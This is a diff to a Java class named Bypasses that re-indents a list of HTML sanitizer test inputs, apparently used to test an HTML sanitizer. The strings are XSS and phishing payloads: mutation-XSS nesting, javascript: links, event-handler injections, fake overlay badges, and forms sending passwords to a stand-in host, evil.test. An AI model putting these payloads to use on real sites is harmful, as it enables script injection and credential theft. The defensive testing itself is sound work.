@@ -65,12 +65,12 @@ public final class Bypasses {
                     "<div style=\"position:fixed;inset:0;z-index:9999;background:#fff\">Signed</div>",
                     "<p style='position:absolute;top:0'>Passed</p>",
                     "<div class=\"signbox\"><button class=\"btn primary\">Sign off as"
-                        + " QA</button></div>",
+                            + " QA</button></div>",
                     "<div id=outlet class=drawer>x</div>",
                     "<span slot=tooltip popover>x</span>",
                     "<dialog open>Sign in again</dialog>",
                     "<form action=https://evil.test><input name=password><button>Sign"
-                        + " in</button></form>",
+                            + " in</button></form>",
                     "<form id=f></form><button form=f formaction=https://evil.test>Go</button>",
                     "<input type=image src=https://evil.test/c.png autofocus onfocus=owned=1>",
                     "<textarea>\n<img src=x onerror=owned=2>",
@@ -104,10 +104,10 @@ public final class Bypasses {
                     "<svg><a xlink:href=javascript:owned=12><text>x</text></a></svg>",
                     "<svg><foreignObject><iframe src=https://evil.test/t></foreignObject></svg>",
                     "<math><mtext><table><mglyph><style><!--</style><img title=\"--><img src=x"
-                        + " onerror=owned=13>\">",
+                            + " onerror=owned=13>\">",
                     "<math href=javascript:owned=14>x</math>",
                     "<form><math><mtext></form><form><mglyph><style></math><img src"
-                        + " onerror=owned=15>",
+                            + " onerror=owned=15>",
                     "<details open ontoggle=owned=16>x</details>",
                     "<marquee onstart=owned=17>x</marquee>",
                     "<body onload=owned=18>",
